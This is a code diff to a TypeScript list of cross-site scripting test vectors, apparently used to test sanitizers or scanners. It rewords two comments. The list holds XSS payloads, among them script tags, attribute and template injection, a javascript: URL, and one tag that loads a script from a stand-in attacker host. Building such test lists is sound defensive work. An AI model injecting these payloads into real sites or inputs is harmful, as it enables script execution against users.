@@ -1,4 +1,4 @@
-/** Texts that run where a page takes them for its own: as elements, attributes, addresses, or half of them. */
+/** Cross-site scripting vectors: elements, attributes, URLs, and fragments of them. */
 export const vectors: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -62,7 +62,7 @@ export const vectors: readonly string[] = [
   '"onmouseover="alert(1)" x="',
   "'-alert(1)-'",
   '{{constructor.constructor("alert(1)")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is sent
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is sent
   '${alert(1)}',
   'javascript:alert(1)//<b>',
 ];
